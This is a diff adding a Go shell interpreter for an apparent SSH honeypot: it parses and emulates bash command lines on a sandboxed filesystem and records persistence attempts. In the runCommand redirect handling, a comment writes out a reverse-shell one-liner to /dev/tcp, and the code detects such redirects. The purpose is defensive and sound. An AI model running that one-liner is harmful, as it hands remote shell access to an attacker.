@@ -0,0 +1,767 @@
+package main
+
+import (
+	"bytes"
+	"fmt"
+	"math/rand"
+	"os"
+	"sort"
+	"strconv"
+	"strings"
+)
+
+const shellMaxDepth = 16 // nesting of scripts and command substitutions
+
+// shellToken is a word or an operator of a command line. Words are kept raw,
+// with their quotes, they are expanded when the command runs, that way
+// variables set by earlier commands of the line are visible.
+type shellToken struct {
+	op    string
+	word  string
+	group string // commands of a subshell, e.g. `(crontab -l; echo ...)`
+}
+
+type shellRedirect struct {
+	op     string // >, >>, <, >& (duplicate a descriptor)
+	fd     int    // descriptor that is redirected, -1 for both outputs (&>)
+	target string // raw word
+}
+
+type shellCommand struct {
+	words  []string
+	redirs []shellRedirect
+	group  string
+}
+
+func (c shellCommand) empty() bool {
+	return len(c.words) == 0 && len(c.redirs) == 0 && c.group == ""
+}
+
+// shellPipeline is a pipeline of a command list. cond is the operator
+// connecting it with the previous pipeline: "", "&&" or "||".
+type shellPipeline struct {
+	cmds       []shellCommand
+	cond       string
+	background bool
+}
+
+type shellSyntaxError string
+
+func (e shellSyntaxError) Error() string {
+	return fmt.Sprintf("syntax error near unexpected token `%s'", string(e))
+}
+
+// shellSkip returns the index after the end of a quoted string, command
+// substitution, subshell or backtick block starting at i.
+func shellSkip(line string, i int) (int, error) {
+	switch {
+	case line[i] == '\'':
+		end := strings.IndexByte(line[i+1:], '\'')
+		if end < 0 {
+			return 0, fmt.Errorf("unexpected EOF while looking for matching `''")
+		}
+		return i + end + 2, nil
+	case line[i] == '`':
+		end := strings.IndexByte(line[i+1:], '`')
+		if end < 0 {
+			return 0, fmt.Errorf("unexpected EOF while looking for matching ``'")
+		}
+		return i + end + 2, nil
+	case line[i] == '"':
+		for j := i + 1; j < len(line); j++ {
+			switch line[j] {
+			case '\\':
+				j++
+			case '"':
+				return j + 1, nil
+			case '$', '`':
+				if line[j] == '`' || strings.HasPrefix(line[j:], "$(") {
+					end, err := shellSkip(line, j)
+					if err != nil {
+						return 0, err
+					}
+					j = end - 1
+				}
+			}
+		}
+		return 0, fmt.Errorf("unexpected EOF while looking for matching `\"'")
+	case strings.HasPrefix(line[i:], "$(") || line[i] == '(':
+		depth := 0
+		for j := i; j < len(line); j++ {
+			switch line[j] {
+			case '\'', '"', '`':
+				end, err := shellSkip(line, j)
+				if err != nil {
+					return 0, err
+				}
+				j = end - 1
+			case '\\':
+				j++
+			case '(':
+				depth++
+			case ')':
+				depth--
+				if depth == 0 {
+					return j + 1, nil
+				}
+			}
+		}
+		return 0, fmt.Errorf("unexpected EOF while looking for matching `)'")
+	}
+	return i + 1, nil
+}
+
+// shellTokenize splits a command line into words and operators.
+func shellTokenize(line string) ([]shellToken, error) {
+	tokens := []shellToken{}
+	word := &strings.Builder{}
+	inWord := false
+	flush := func() {
+		if inWord {
+			tokens = append(tokens, shellToken{word: word.String()})
+			word.Reset()
+			inWord = false
+		}
+	}
+
+	for i := 0; i < len(line); {
+		c := line[i]
+		switch {
+		case c == ' ' || c == '\t' || c == '\r':
+			flush()
+			i++
+		case c == '#' && !inWord:
+			for i < len(line) && line[i] != '\n' {
+				i++
+			}
+		case c == '\n' || c == ';':
+			flush()
+			tokens = append(tokens, shellToken{op: ";"})
+			i++
+		case c == '&' || c == '|':
+			if c == '&' && strings.HasPrefix(line[i:], "&>") {
+				flush()
+				op := "&>"
+				if strings.HasPrefix(line[i:], "&>>") {
+					op = "&>>"
+				}
+				tokens = append(tokens, shellToken{op: op})
+				i += len(op)
+				continue
+			}
+			flush()
+			op := string(c)
+			if i+1 < len(line) && line[i+1] == c {
+				op += string(c)
+			}
+			tokens = append(tokens, shellToken{op: op})
+			i += len(op)
+		case c == '>' || c == '<':
+			// a descriptor directly in front belongs to the redirect, e.g. 2>
+			op := ""
+			if inWord && strings.Trim(word.String(), "0123456789") == "" {
+				op = word.String()
+				word.Reset()
+				inWord = false
+			}
+			flush()
+			op += string(c)
+			i++
+			if c == '>' && i < len(line) && line[i] == '>' {
+				op += ">"
+				i++
+			}
+			if i < len(line) && line[i] == '&' {
+				op += "&"
+				i++
+			}
+			tokens = append(tokens, shellToken{op: op})
+		case c == '(' && !inWord:
+			end, err := shellSkip(line, i)
+			if err != nil {
+				return nil, err
+			}
+			tokens = append(tokens, shellToken{group: line[i+1 : end-1]})
+			i = end
+		case c == '\\':
+			inWord = true
+			word.WriteByte(c)
+			if i+1 < len(line) {
+				word.WriteByte(line[i+1])
+			}
+			i += 2
+		case c == '\'' || c == '"' || c == '`' || strings.HasPrefix(line[i:], "$("):
+			end, err := shellSkip(line, i)
+			if err != nil {
+				return nil, err
+			}
+			inWord = true
+			word.WriteString(line[i:end])
+			i = end
+		default:
+			inWord = true
+			word.WriteByte(c)
+			i++
+		}
+	}
+	flush()
+	return tokens, nil
+}
+
+// shellParse turns the tokens into a list of pipelines.
+func shellParse(tokens []shellToken) ([]shellPipeline, error) {
+	list := []shellPipeline{}
+	pipeline := shellPipeline{}
+	cmd := shellCommand{}
+	cond := ""
+
+	endCommand := func(op string) error {
+		if cmd.empty() {
+			return shellSyntaxError(op)
+		}
+		pipeline.cmds = append(pipeline.cmds, cmd)
+		cmd = shellCommand{}
+		return nil
+	}
+	endPipeline := func(op string) error {
+		if cmd.empty() && len(pipeline.cmds) == 0 {
+			if op == ";" && cond == "" {
+				return nil // empty command, e.g. a blank line
+			}
+			return shellSyntaxError(op)
+		}
+		err := endCommand(op)
+		if err != nil {
+			return err
+		}
+		pipeline.cond = cond
+		list = append(list, pipeline)
+		pipeline = shellPipeline{}
+		return nil
+	}
+
+	for i := 0; i < len(tokens); i++ {
+		t := tokens[i]
+		switch {
+		case t.group != "":
+			if len(cmd.words) > 0 || cmd.group != "" {
+				return nil, shellSyntaxError("(")
+			}
+			cmd.group = t.group
+		case t.op == "":
+			if cmd.group != "" {
+				return nil, shellSyntaxError(t.word)
+			}
+			cmd.words = append(cmd.words, t.word)
+		case t.op == "|":
+			if err := endCommand(t.op); err != nil {
+				return nil, err
+			}
+		case t.op == "&&" || t.op == "||" || t.op == ";" || t.op == "&":
+			if err := endPipeline(t.op); err != nil {
+				return nil, err
+			}
+			cond = ""
+			if t.op == "&&" || t.op == "||" {
+				cond = t.op
+			}
+			if t.op == "&" && len(list) > 0 {
+				list[len(list)-1].background = true
+			}
+		default:
+			// redirect, the target is the next word unless it duplicates a
+			// descriptor like 2>&1
+			r := shellRedirect{fd: 1}
+			op := strings.TrimLeft(t.op, "0123456789")
+			if fd, err := strconv.Atoi(strings.TrimSuffix(t.op, op)); err == nil {
+				r.fd = fd
+			}
+			switch {
+			case strings.HasPrefix(op, "&>"):
+				r.fd, op = -1, op[1:]
+			case op == "<":
+				r.fd = 0
+			}
+			r.op = op
+			if strings.HasSuffix(op, "&") {
+				r.op = ">&"
+			}
+			if i+1 >= len(tokens) || tokens[i+1].op != "" {
+				return nil, shellSyntaxError("newline")
+			}
+			i++
+			r.target = tokens[i].word
+			cmd.redirs = append(cmd.redirs, r)
+		}
+	}
+
+	if !cmd.empty() || len(pipeline.cmds) > 0 {
+		if err := endPipeline("newline"); err != nil {
+			return nil, err
+		}
+	} else if cond != "" {
+		return nil, shellSyntaxError("newline")
+	}
+	return list, nil
+}
+
+// shellLines splits input into command lines, a line with an open quote or
+// subshell continues on the next one like it does in bash.
+func shellLines(input string) []string {
+	lines := []string{}
+	pending := ""
+	for _, line := range strings.Split(input, "\n") {
+		if pending != "" {
+			line = pending + "\n" + line
+		}
+		if _, err := shellTokenize(line); err != nil && strings.HasPrefix(err.Error(), "unexpected EOF") {
+			pending = line
+			continue
+		}
+		pending = ""
+		lines = append(lines, line)
+	}
+	if pending != "" {
+		lines = append(lines, pending)
+	}
+	return lines
+}
+
+// shellName reports whether s is a valid variable name.
+func shellName(s string) bool {
+	if s == "" || (s[0] >= '0' && s[0] <= '9') {
+		return false
+	}
+	for _, c := range s {
+		if !(c == '_' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9') {
+			return false
+		}
+	}
+	return true
+}
+
+// Getenv returns the value of a shell variable.
+func (fs *FakeShell) Getenv(name string) string {
+	switch name {
+	case "?":
+		return strconv.Itoa(fs.status)
+	case "!":
+		if fs.lastJob == 0 {
+			return ""
+		}
+		return strconv.Itoa(fs.lastJob)
+	case "$":
+		return strconv.Itoa(fs.procs.shell)
+	case "#":
+		return "0"
+	case "0":
+		return "-bash"
+	case "PWD":
+		return fs.cwd
+	case "RANDOM":
+		return strconv.Itoa(rand.Intn(32768))
+	}
+	return fs.env[name]
+}
+
+// initEnv sets the environment a login shell starts with.
+func (fs *FakeShell) initEnv() {
+	home := "/home/" + fs.User()
+	fs.env = map[string]string{
+		"HOME":     home,
+		"USER":     fs.User(),
+		"LOGNAME":  fs.User(),
+		"SHELL":    "/bin/bash",
+		"PATH":     "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
+		"HOSTNAME": fs.system.HostName,
+		"LANG":     "C.UTF-8",
+		"SHLVL":    "1",
+	}
+	if pty, _, ok := fs.session.Pty(); ok {
+		fs.env["TERM"] = pty.Term
+	}
+	rmt := fs.CommandData("")
+	fs.env["SSH_CLIENT"] = fmt.Sprintf("%s %d %d", rmt.IP, rmt.Port, 22)
+	fs.env["SSH_CONNECTION"] = fmt.Sprintf("%s %d %s %d", rmt.IP, rmt.Port, fs.network().IP, 22)
+}
+
+// expandVar expands the variable at the start of s (after the `$`) and
+// returns the number of bytes it took.
+func (fs *FakeShell) expandVar(s string) (string, int) {
+	if s == "" {
+		return "$", 0
+	}
+	switch {
+	case strings.HasPrefix(s, "{"):
+		end := strings.IndexByte(s, '}')
+		if end < 0 {
+			return "$", 0
+		}
+		name, def, hasDef := strings.Cut(s[1:end], ":-")
+		if strings.HasPrefix(name, "#") {
+			return strconv.Itoa(len(fs.Getenv(name[1:]))), end + 1
+		}
+		value := fs.Getenv(name)
+		if hasDef && value == "" {
+			value = fs.expand(def)
+		}
+		return value, end + 1
+	case strings.ContainsRune("?!$#0123456789", rune(s[0])):
+		return fs.Getenv(s[:1]), 1
+	}
+
+	n := 0
+	for n < len(s) && shellName(s[:n+1]) {
+		n++
+	}
+	if n == 0 {
+		return "$", 0
+	}
+	return fs.Getenv(s[:n]), n
+}
+
+// substitute runs a command substitution and returns its output.
+func (fs *FakeShell) substitute(cmd string) string {
+	out := &bytes.Buffer{}
+	stdout, stdin := fs.stdout, fs.stdin
+	fs.stdout, fs.stdin = out, nil
+	fs.interpret(cmd)
+	fs.stdout, fs.stdin = stdout, stdin
+	return strings.TrimRight(out.String(), "\n")
+}
+
+// expand removes the quotes of a word and expands variables, command
+// substitutions and `~`.
+func (fs *FakeShell) expand(word string) string {
+	sb := &strings.Builder{}
+	if word == "~" || strings.HasPrefix(word, "~/") {
+		sb.WriteString(fs.Getenv("HOME"))
+		word = word[1:]
+	}
+
+	quoted := false
+	for i := 0; i < len(word); i++ {
+		c := word[i]
+		switch {
+		case c == '\'' && !quoted:
+			end := strings.IndexByte(word[i+1:], '\'')
+			if end < 0 {
+				end = len(word) - i - 1
+			}
+			sb.WriteString(word[i+1 : i+1+end])
+			i += end + 1
+		case c == '"':
+			quoted = !quoted
+		case c == '\\' && i+1 < len(word):
+			if quoted && !strings.ContainsRune("$`\"\\\n", rune(word[i+1])) {
+				sb.WriteByte(c)
+			}
+			sb.WriteByte(word[i+1])
+			i++
+		case c == '`' || strings.HasPrefix(word[i:], "$("):
+			end, err := shellSkip(word, i)
+			if err != nil {
+				sb.WriteString(word[i:])
+				return sb.String()
+			}
+			inner := word[i+1 : end-1]
+			if c == '$' {
+				inner = word[i+2 : end-1]
+			}
+			sb.WriteString(fs.substitute(inner))
+			i = end - 1
+		case c == '$':
+			value, n := fs.expandVar(word[i+1:])
+			sb.WriteString(value)
+			i += n
+		default:
+			sb.WriteByte(c)
+		}
+	}
+	return sb.String()
+}
+
+// Stdin returns the input of the current command if it comes from a pipe or
+// a file, ok is false if the command reads from the terminal.
+func (fs *FakeShell) Stdin() (input string, ok bool) {
+	if fs.stdin == nil {
+		return "", false
+	}
+	return *fs.stdin, true
+}
+
+// Redirected reports whether the output of the current command goes to a
+// pipe or a file instead of the terminal.
+func (fs *FakeShell) Redirected() bool {
+	return fs.stdout != nil
+}
+
+// Args returns the arguments of the current command after expansion, quoted
+// arguments can contain spaces. Commands not started by the interpreter get
+// the fields of the line.
+func (fs *FakeShell) Args(line string) []string {
+	if fs.argv != nil {
+		return fs.argv
+	}
+	return strings.Fields(line)
+}
+
+// exec runs a command with its expanded arguments.
+func (fs *FakeShell) exec(argv []string) (exit bool) {
+	prev := fs.argv
+	fs.argv = argv
+	defer func() { fs.argv = prev }()
+	return fs.run(strings.Join(argv, " "))
+}
+
+// writeRedirect writes the output of a command to the target of a redirect.
+func (fs *FakeShell) writeRedirect(path string, data []byte, appendTo bool) error {
+	if path == "/dev/null" {
+		return nil
+	}
+	fs.recordPersistence(path, string(data))
+
+	err := fs.overlayFS.Reserve(int64(len(data)))
+	if err != nil {
+		return err
+	}
+
+	flags := os.O_WRONLY | os.O_CREATE | os.O_TRUNC
+	if appendTo {
+		flags = os.O_WRONLY | os.O_CREATE | os.O_APPEND
+	}
+	file, err := fs.overlayFS.OpenFile(toAbs(fs, path), flags, 0644)
+	if err != nil {
+		return err
+	}
+	defer file.Close()
+
+	_, err = file.Write(data)
+	return err
+}
+
+// runCommand runs a simple command of a pipeline. stdin is the output of the
+// previous command of the pipeline, stdout captures the output for the next
+// one.
+func (fs *FakeShell) runCommand(cmd shellCommand, stdin *string, stdout *bytes.Buffer) (exit bool) {
+	words := make([]string, 0, len(cmd.words))
+	for _, w := range cmd.words {
+		words = append(words, fs.expand(w))
+	}
+
+	// variable assignments in front of the command, without a command they
+	// set shell variables
+	assignments := map[string]string{}
+	for len(words) > 0 {
+		name, value, ok := strings.Cut(words[0], "=")
+		if !ok || !shellName(name) {
+			break
+		}
+		assignments[name] = value
+		words = words[1:]
+	}
+	if len(words) == 0 {
+		for name, value := range assignments {
+			fs.env[name] = value
+		}
+	} else {
+		Server.addCommand(fs.Host(), words[0])
+		prev := map[string]string{}
+		for name, value := range assignments {
+			prev[name] = fs.env[name]
+			fs.env[name] = value
+		}
+		defer func() {
+			for name, value := range prev {
+				fs.env[name] = value
+			}
+		}()
+	}
+
+	var outFile, errFile string
+	var appendTo, errAppend, errToOut bool
+	for _, r := range cmd.redirs {
+		target := fs.expand(r.target)
+		switch {
+		case strings.HasPrefix(target, "/dev/tcp/") || strings.HasPrefix(target, "/dev/udp/"):
+			// a reverse shell, e.g. `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`
+			fs.devConnect(target)
+			return false
+		case r.op == "<":
+			data, err := fs.overlayFS.ReadFile(toAbs(fs, target))
+			if err != nil {
+				fs.status = exitStatusFailure
+				fs.RecordError(fmt.Sprintf("-bash: %s: No such file or directory", target))
+				return false
+			}
+			stdin = &data
+		case r.op == ">&":
+			// 2>&1, output going to the errors (>&2) stays output
+			errToOut = errToOut || r.fd == 2
+		case r.fd == 2:
+			errFile, errAppend = target, r.op == ">>"
+		default:
+			outFile, appendTo = target, r.op == ">>"
+			errToOut = errToOut || r.fd == -1
+		}
+	}
+
+	if outFile != "" {
+		stdout = &bytes.Buffer{}
+	}
+	stderr := fs.stderr
+	switch {
+	case errFile != "":
+		stderr = &bytes.Buffer{}
+	case errToOut:
+		stderr = stdout
+	}
+
+	prevOut, prevIn, prevErr := fs.stdout, fs.stdin, fs.stderr
+	fs.stdout, fs.stdin, fs.stderr = stdout, stdin, stderr
+	switch {
+	case cmd.group != "":
+		fs.status = 0
+		fs.subshell(cmd.group)
+	case len(words) > 0:
+		fs.status = 0
+		exit = fs.exec(words)
+	}
+	fs.stdout, fs.stdin, fs.stderr = prevOut, prevIn, prevErr
+
+	if outFile != "" {
+		err := fs.writeRedirect(outFile, stdout.Bytes(), appendTo)
+		if err != nil {
+			fs.status = exitStatusFailure
+			fs.RecordError(fmt.Sprintf("-bash: %s: %s", outFile, overlayErrorMessage(err)))
+		}
+	}
+	if errFile != "" {
+		err := fs.writeRedirect(errFile, stderr.Bytes(), errAppend)
+		if err != nil {
+			fs.status = exitStatusFailure
+			fs.RecordError(fmt.Sprintf("-bash: %s: %s", errFile, overlayErrorMessage(err)))
+		}
+	}
+	return exit
+}
+
+// overlayErrorMessage turns errors of the sandbox into the messages of the
+// shell.
+func overlayErrorMessage(err error) string {
+	switch {
+	case os.IsNotExist(err):
+		return "No such file or directory"
+	case os.IsPermission(err):
+		return "Permission denied"
+	case strings.Contains(err.Error(), "is a directory"):
+		return "Is a directory"
+	}
+	return "Disk quota exceeded"
+}
+
+// subshell runs commands in a subshell, changes to variables and the working
+// directory don't leak into the shell and `exit` only ends the subshell.
+func (fs *FakeShell) subshell(commands string) {
+	env := make(map[string]string, len(fs.env))
+	for name, value := range fs.env {
+		env[name] = value
+	}
+	cwd, prompt := fs.cwd, fs.prompt
+	fs.interpret(commands)
+	fs.env = env
+	if fs.cwd != cwd {
+		fs.cwd, fs.prompt = cwd, prompt
+		if fs.pty {
+			fs.terminal.SetPrompt(prompt)
+		}
+	}
+}
+
+func (fs *FakeShell) runPipeline(p shellPipeline) (exit bool) {
+	var stdin *string
+	for i, cmd := range p.cmds {
+		var stdout *bytes.Buffer
+		if i < len(p.cmds)-1 {
+			stdout = &bytes.Buffer{}
+		} else {
+			stdout = fs.stdout
+		}
+
+		if fs.runCommand(cmd, stdin, stdout) {
+			return true
+		}
+
+		if i < len(p.cmds)-1 {
+			out := stdout.String()
+			stdin = &out
+		}
+	}
+	return false
+}
+
+// interpret runs a command line: pipelines connected with `&&`, `||`, `;`
+// and `&`, with redirects and variables.
+func (fs *FakeShell) interpret(line string) (exit bool) {
+	if fs.depth >= shellMaxDepth {
+		fs.status = exitStatusFailure
+		fs.RecordError("-bash: maximum nesting level exceeded")
+		return false
+	}
+	fs.depth++
+	defer func() { fs.depth-- }()
+
+	tokens, err := shellTokenize(line)
+	if err == nil {
+		var list []shellPipeline
+		list, err = shellParse(tokens)
+		if err == nil {
+			return fs.runList(list)
+		}
+	}
+
+	fs.status = 2
+	fs.RecordError("-bash: " + err.Error())
+	return false
+}
+
+func (fs *FakeShell) runList(list []shellPipeline) (exit bool) {
+	for _, p := range list {
+		if (p.cond == "&&" && fs.status != 0) || (p.cond == "||" && fs.status == 0) {
+			continue
+		}
+
+		// subshells run right away, e.g. `(./x &)`
+		if p.background && len(p.cmds) == 1 && p.cmds[0].group == "" {
+			words := []string{}
+			for _, w := range p.cmds[0].words {
+				words = append(words, fs.expand(w))
+			}
+			redirected := false
+			for _, r := range p.cmds[0].redirs {
+				redirected = redirected || (r.fd != 0 && r.fd != 2)
+			}
+			fs.status = 0
+			if fs.background(words, redirected) {
+				return true
+			}
+			continue
+		}
+
+		if fs.runPipeline(p) {
+			return true
+		}
+	}
+	return false
+}
+
+// environ returns the variables of the shell as NAME=value, sorted.
+func (fs *FakeShell) environ() []string {
+	env := make([]string, 0, len(fs.env))
+	for name, value := range fs.env {
+		env = append(env, name+"="+value)
+	}
+	env = append(env, "PWD="+fs.cwd)
+	sort.Strings(env)
+	return env
+}